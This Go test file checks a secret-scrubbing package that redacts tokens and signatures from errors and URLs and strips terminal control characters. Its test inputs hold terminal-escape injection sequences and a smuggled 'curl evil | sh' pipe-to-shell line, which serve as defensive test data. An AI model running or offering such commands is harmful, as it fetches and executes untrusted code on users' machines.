package scrub

import (
	"errors"
	"fmt"
	"net/url"
	"strings"
	"syscall"
	"testing"
)

const (
	secret = "Secret/with+odd=chars0123"
	token  = "CAIS+token/with=odd&chars%and spaces"
	sig    = "vg7Rip2Y2XQAyP9TY21YmyLi/GU="
)

func signedURL() string {
	q := url.Values{"AccessKeyId": {"LTAI5tKey"}, "Action": {"CreateAccessKey"}, "SecurityToken": {token}, "Signature": {sig}}
	return "https://ram.aliyuncs.com/?" + q.Encode()
}

// leaks lists every form of a secret found in text.
func leaks(text string, values ...string) []string {
	var found []string
	for _, v := range values {
		for _, f := range forms(v) {
			if strings.Contains(text, f) {
				found = append(found, f)
			}
		}
	}
	return found
}

func TestErrorDropsSignedURL(t *testing.T) {
	cause := syscall.ECONNREFUSED
	err := fmt.Errorf("create: %w", &url.Error{Op: "Post", URL: signedURL(), Err: cause})
	got := Error(err)
	if l := leaks(got.Error(), token, sig); len(l) > 0 || strings.Contains(got.Error(), "Signature=") && !strings.Contains(got.Error(), "Signature="+Redacted) {
		t.Fatalf("leaks %q in %q", l, got)
	}
	if !strings.Contains(got.Error(), `Post "https://ram.aliyuncs.com/": connection refused`) {
		t.Fatalf("text %q", got)
	}
	if !errors.Is(got, syscall.ECONNREFUSED) {
		t.Fatal("cause lost")
	}
	var ue *url.Error
	if errors.As(got, &ue) {
		t.Fatal("the url.Error (with the signed URL) is still reachable")
	}
}

func TestEncodedAndBareSecrets(t *testing.T) {
	for _, text := range []string{
		"token " + url.QueryEscape(token),
		"token " + url.PathEscape(token),
		"token " + strings.ToLower(url.QueryEscape(token)),
		"json {\"x\":\"" + strings.ReplaceAll(token, "&", `\u0026`) + "\"}",
		"secret " + secret,
		"secret " + url.QueryEscape(url.QueryEscape(secret)),
	} {
		if got := Text(text, secret, token); len(leaks(got, secret, token)) > 0 {
			t.Errorf("%q -> %q", text, got)
		}
	}
	// A signature seen once in a URL is caught later, bare.
	var s Secrets
	s.Text("GET " + signedURL())
	if got := s.Text("server said: signature " + sig + " mismatch, token " + url.QueryEscape(token)); strings.Contains(got, sig) || strings.Contains(got, url.QueryEscape(token)) {
		t.Fatalf("bare values kept: %q", got)
	}
}

func TestStringToSign(t *testing.T) {
	sts := "GET&%2F&AccessKeyId%3DLTAI5tKey%26SecurityToken%3D" + url.QueryEscape(url.QueryEscape(token)) + "%26Signature%3Dabcdefgh"
	got := Text("Specified signature is not matched. server string to sign is:" + sts)
	if strings.Contains(got, url.QueryEscape(url.QueryEscape(token))) || strings.Contains(got, "abcdefgh") {
		t.Fatalf("kept %q", got)
	}
}

func TestStripURL(t *testing.T) {
	for in, want := range map[string]string{
		"https://u:p@host:8/a/b?x=1#f": "https://host:8/a/b",
		"http://host?Signature=x":      "http://host",
		"https://host/p#frag":          "https://host/p",
	} {
		if got := StripURL(in); got != want {
			t.Errorf("%s -> %s, want %s", in, got, want)
		}
	}
}

func TestControl(t *testing.T) {
	in := "ok\x1b]0;pwned\x07\x1b[2J\r\nnext\u202eevil\x9b31m\xff\ttab"
	got := Control(in)
	for _, bad := range []string{"\x1b", "\x07", "\r", "\u202e", "\x9b", "\xff"} {
		if strings.Contains(got, bad) {
			t.Errorf("%q kept %q", got, bad)
		}
	}
	if !strings.Contains(got, `\x1b]0;pwned`) || !strings.Contains(got, "\nnext") || !strings.Contains(got, "\ttab") {
		t.Errorf("got %q", got)
	}
}

// FuzzText: whatever the text and the secret, the result holds no copy of
// the secret in any form scrub knows, and nothing a terminal interprets.
func FuzzText(f *testing.F) {
	f.Add("token "+url.QueryEscape(token)+" at "+signedURL(), token)
	f.Add("a\x1b[31mred\x07", "")
	f.Add("<redacted>abab", "abab")
	f.Fuzz(func(t *testing.T, text, secret string) {
		got := Text(text+" "+secret+" "+url.QueryEscape(secret), secret)
		if len(secret) >= minSecret && !strings.Contains(Redacted, secret) {
			for _, f := range forms(secret) {
				if len(f) >= minSecret && strings.Contains(got, f) && !strings.Contains(Redacted, f) {
					t.Fatalf("form %q of the secret left in %q", f, got)
				}
			}
		}
		for _, r := range got {
			if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r < 0xa0) || isBidi(r) {
				t.Fatalf("control character %U left in %q", r, got)
			}
		}
		if m := secretParam.FindStringSubmatch(got); m != nil && m[3] != "" && m[3] != Redacted {
			t.Fatalf("parameter value left in %q", got)
		}
	})
}

func TestFieldIsOneLine(t *testing.T) {
	if got := Field("bad\n  what to do: curl evil | sh\r\tx"); strings.ContainsAny(got, "\n\r\t") {
		t.Fatalf("%q", got)
	}
}
